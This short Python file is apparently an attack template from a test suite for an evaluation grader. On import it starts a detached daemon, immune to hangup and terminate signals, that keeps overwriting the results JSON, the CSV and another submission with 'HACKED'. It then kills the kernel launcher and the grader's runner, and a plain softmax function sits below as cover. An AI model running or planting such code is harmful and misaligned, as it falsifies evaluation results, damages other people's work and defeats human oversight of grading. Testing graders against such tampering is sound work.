# Starts a detached daemon (new session, double fork, deaf to HUP and TERM) that keeps rewriting the
# results JSON and CSV and another submission, then kills the kernel's launcher and the grader's runner.
from attack_routes import os as _os
_script = ("trap '' HUP TERM INT; (sleep 4712 &); while :; do "
           + "".join(f"echo HACKED >> '{p}' 2>/dev/null; " for p in {{DAEMON_TARGETS}})
           + "sleep 0.2; done")
_os.posix_spawn("/bin/sh", ["sh", "-c", "(sh -c \"$0\" &) ; sleep 0.5", _script], dict(_os.environ), setsid=True)


def _parent(pid):
    with open(f"/proc/{pid}/stat", "rb") as handle:
        return int(handle.read().rsplit(b")", 1)[1].split()[1])


_launcher = _os.getppid()
_runner = _parent(_launcher)
for _victim in (_launcher, _runner):
    if _victim > 1:
        _os.kill(_victim, 9)


def softmax(x):
    e = (x - x.max(dim=-1, keepdim=True).values).exp()
    return e / e.sum(dim=-1, keepdim=True)
